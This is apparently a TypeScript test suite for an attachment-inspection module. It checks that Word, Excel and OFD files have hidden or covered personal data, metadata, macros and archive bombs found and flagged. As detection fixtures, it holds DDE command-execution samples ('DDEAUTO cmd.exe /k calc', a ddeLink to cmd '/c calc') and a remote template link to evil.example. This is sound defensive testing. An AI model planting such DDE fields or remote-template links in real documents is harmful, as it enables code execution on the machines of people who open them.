import { unzipSync } from 'fflate'
import { expect, test } from 'vitest'
import { findPersonal } from '../../../src/domain/inspection/find-personal.ts'
import { readAttachment } from '../../../src/domain/inspection/read-attachment.ts'
import { stripTraces } from '../../../src/domain/inspection/strip-traces.ts'
import {
  appProperties,
  coreProperties,
  deleted,
  ofdOf,
  outward,
  par,
  row,
  run,
  word,
  workbook,
  zip,
} from './sample-documents.ts'

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
const OFD = 'application/ofd'
const id = '110101199003070046'
const xml = '<?xml version="1.0"?>'

test('row 13: a Word file shows its words in order, cut runs joined, cells apart', async () => {
  const body = [
    par(run('关于'), run('公示')),
    par(run('1101011990'), run('03070046', '<w:b/>'), '<w:r><w:tab/></w:r>', run('王')),
  ].join('')
  const reading = await readAttachment(
    word(body, {
      'word/header1.xml': `${xml}<w:hdr xmlns:w="w">${par(run('页眉'))}</w:hdr>`,
      'word/footnotes.xml': `${xml}<w:footnotes xmlns:w="w">${par(run('脚注'))}</w:footnotes>`,
    }),
    DOCX,
  )
  expect(reading.words).toBe(`关于公示\n${id}\t王\n页眉\n脚注`)
  expect(reading).toMatchObject({ isComplete: true, unread: null, hidden: '', traces: [] })
})

test('security 45: text hidden in a Word file is found and flagged, and is no part of its words', async () => {
  const byRun = par(run('名单', ''), run(id, '<w:vanish/>'))
  const byStyle = par(run('620102199003070044', '<w:rStyle w:val="Secret"/>'))
  const shown = par(run('可见', '<w:vanish w:val="0"/>'))
  const reading = await readAttachment(
    word(byRun + byStyle + shown, {
      'word/styles.xml': `${xml}<w:styles xmlns:w="w"><w:style w:styleId="Secret"><w:rPr><w:vanish/></w:rPr></w:style></w:styles>`,
    }),
    DOCX,
  )
  expect(reading.words).toBe('名单\n可见')
  expect(reading.hidden).toContain(id)
  expect(reading.traces.filter(({ trace }) => trace === 'hidden-text')).toHaveLength(2)
  expect(JSON.stringify(reading.traces)).not.toContain(id)
})

test('security 45: a number deleted while changes were tracked is found, and does not cut what is shown', async () => {
  const body = par(run('110101'), deleted(id, '李主任'), run('199003070046'))
  const reading = await readAttachment(word(body), DOCX)
  expect(reading.words).toBe(id)
  expect(findPersonal(reading.hidden)).toMatchObject([{ kind: 'resident-id' }])
  expect(reading.traces).toEqual([{ trace: 'tracked-change', detail: '李主任' }])
})

test('security 45: words blackened in a Word file are still there, and flagged as covered', async () => {
  const body = par(
    run('身份证'),
    run(id, '<w:highlight w:val="black"/>'),
    run('13956012345', '<w:color w:val="000000"/><w:shd w:val="clear" w:fill="000000"/>'),
    run('表头', '<w:color w:val="FFFFFF"/><w:shd w:val="clear" w:fill="000000"/>'),
    run('黄底', '<w:highlight w:val="yellow"/>'),
  )
  const reading = await readAttachment(word(body), DOCX)
  expect(reading.words).toBe('身份证表头黄底')
  expect(reading.traces).toEqual([
    { trace: 'covered-text', detail: '110***********0046139****2345' },
  ])
})

test('security 45: a Word file of pictures alone is no file without personal data', async () => {
  const file = word(par(run('')), { 'word/media/image1.jpg': 'x' })
  expect(await readAttachment(file, DOCX)).toMatchObject({ unread: 'scanned-pages' })
})

test('security 46: authors, company, remarks and ways out of a Word file are shown', async () => {
  const reading = await readAttachment(
    word(
      par(
        run('正文'),
        '<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>',
      ),
      {
        'docProps/core.xml': coreProperties('张三', '李四'),
        'docProps/app.xml': appProperties('某某咨询公司'),
        'docProps/custom.xml': `${xml}<Properties><property name="内部编号"><lpwstr>内12</lpwstr></property></Properties>`,
        'word/_rels/settings.xml.rels': outward('attachedTemplate', 'http://evil.example/t.dotm'),
        'word/_rels/document.xml.rels': outward('oleObject', 'file://server/a.xlsx'),
        'word/comments.xml': `${xml}<w:comments xmlns:w="w"><w:comment w:author="赵科长">${par(run(`这里先不公开${id}`))}</w:comment></w:comments>`,
        'word/embeddings/oleObject1.bin': 'x',
        'word/media/image1.png': 'x',
        'word/vbaProject.bin': 'x',
      },
    ),
    DOCX,
  )
  expect(reading.traces).toEqual(
    expect.arrayContaining([
      { trace: 'author', detail: '张三' },
      { trace: 'author', detail: '李四' },
      { trace: 'company', detail: '某某咨询公司' },
      { trace: 'remark', detail: '内部编号: 内12' },
      { trace: 'remote-template', detail: 'http://evil.example/t.dotm' },
      { trace: 'external-link', detail: 'file://server/a.xlsx' },
      { trace: 'comment', detail: '赵科长: 这里先不公开110***********0046' },
      { trace: 'embedded-file', detail: 'oleObject1.bin' },
      { trace: 'macro', detail: 'vbaProject.bin' },
      { trace: 'pictures', detail: '1' },
    ]),
  )
  expect(reading.traces.find(({ trace }) => trace === 'dde')?.detail).toContain('DDEAUTO')
  expect(reading.isComplete).toBe(false)
})

test('security 45: a workbook inside a Word file is read, one inside that is not', async () => {
  const inner = workbook([{ name: '表', rows: row([id]) }])
  const reading = await readAttachment(
    word(par(run('图')), { 'word/embeddings/a.xlsx': inner }),
    DOCX,
  )
  expect(reading).toMatchObject({ words: '图', isComplete: true })
  expect(reading.hidden).toContain(id)
  const nested = word(par(run('内')), { 'word/embeddings/a.xlsx': inner })
  const deep = await readAttachment(
    word(par(run('外')), { 'word/embeddings/b.docx': nested }),
    DOCX,
  )
  expect(deep.isComplete).toBe(false)
})

test('security 45: every sheet of a workbook is read, hidden sheets, rows and columns apart and flagged', async () => {
  const book = workbook(
    [
      { name: '名单', rows: row(['姓名', '金额']) + row(['暗', id], 'hidden="1"'), columns: '' },
      { name: '底稿', state: 'veryHidden', rows: row(['李四', '620102199003070044']) },
      {
        name: '列',
        columns: '<cols><col min="2" max="3" hidden="1"/></cols>',
        rows: '<row><c r="A1"><v>1</v></c><c r="B1"><v>13956012345</v></c></row>',
      },
    ],
    {
      'xl/comments1.xml': `${xml}<comments><authors><author>王五</author></authors><commentList><comment authorId="0"><text><t>待核</t></text></comment></commentList></comments>`,
      'xl/externalLinks/externalLink1.xml': `${xml}<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
      'xl/pivotCache/pivotCacheRecords1.xml': `${xml}<r><s v="370102199003070044"/></r>`,
    },
  )
  const reading = await readAttachment(book, XLSX)
  expect(reading.words).toBe('名单\n姓名\t金额\n列\n1')
  for (const secret of [id, '620102199003070044', '13956012345', '待核', '370102199003070044']) {
    expect(reading.hidden).toContain(secret)
  }
  expect(reading.traces).toEqual(
    expect.arrayContaining([
      { trace: 'hidden-cells', detail: '名单' },
      { trace: 'hidden-sheet', detail: '底稿' },
      { trace: 'hidden-cells', detail: '列' },
      { trace: 'comment', detail: '王五: 待核' },
      { trace: 'dde', detail: 'cmd|/c calc' },
    ]),
  )
})

test('security 45: an OFD file is read, also when every character stands alone', async () => {
  const pieces = Array.from(id, (char, at) => [`${String(10 + at * 3)} 20 3 5`, char] as const)
  const reading = await readAttachment(
    ofdOf([['10 10 30 5', '身份证'], ...pieces, ['10 40 30 5', '落款']], '张三'),
    OFD,
  )
  expect(reading.words).toBe(`身份证\n${id}\n落款`)
  expect(reading.traces).toEqual([{ trace: 'author', detail: '张三' }])
})

test('security 46: authors and company can be taken away, and the rest stays as it is', async () => {
  const file = word(par(run('正文')), {
    'docProps/core.xml': coreProperties('张三', '李四'),
    'docProps/app.xml': appProperties('某公司'),
  })
  const clean = stripTraces(file, DOCX)
  const reading = await readAttachment(clean, DOCX)
  expect(reading).toMatchObject({ words: '正文', traces: [] })
  expect(new TextDecoder().decode(unzipSync(clean)['docProps/core.xml'])).toContain('题目')
  expect(stripTraces(clean, DOCX)).toBe(clean)
})

const bombs: readonly (readonly [string, string, Uint8Array, string])[] = [
  ['one large part', DOCX, word(par(run('x'.repeat(40_000_000)))), 'too-large'],
  [
    'entities',
    DOCX,
    zip({ 'word/document.xml': `${xml}<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>` }),
    'broken',
  ],
  ['no XML', DOCX, zip({ 'word/document.xml': 'MZ' }), 'broken'],
  ['nothing in it', XLSX, zip({ 'a.txt': 'x' }), 'broken'],
  ['no archive', DOCX, new Uint8Array([1, 2, 3]), 'broken'],
  ['deep', DOCX, word('<w:p>'.repeat(5000)), 'broken'],
  [
    'too many parts',
    DOCX,
    word(
      '',
      Object.fromEntries(
        Array.from({ length: 600 }, (_, at) => [`word/a${String(at)}.xml`, '<a/>']),
      ),
    ),
    'too-large',
  ],
]

test.each(bombs)(
  'security 41, 12: archive with %s stays unread',
  async (_, type, bytes, unread) => {
    expect(await readAttachment(bytes, type)).toMatchObject({
      unread,
      isComplete: false,
      words: '',
    })
  },
)

test('security 45: what is not read is named, never passed over', async () => {
  for (const type of [
    'application/msword',
    'application/vnd.ms-excel',
    'application/vnd.ms-works',
  ]) {
    expect(await readAttachment(new Uint8Array(10), type)).toMatchObject({ unread: 'old-format' })
  }
})

test('words are cut at a million characters, and said to be', async () => {
  const text = new TextEncoder().encode('字'.repeat(1_200_000))
  const reading = await readAttachment(text, 'text/plain')
  expect(reading).toMatchObject({ isComplete: false, unread: null })
  expect(reading.words).toHaveLength(1_000_000)
})
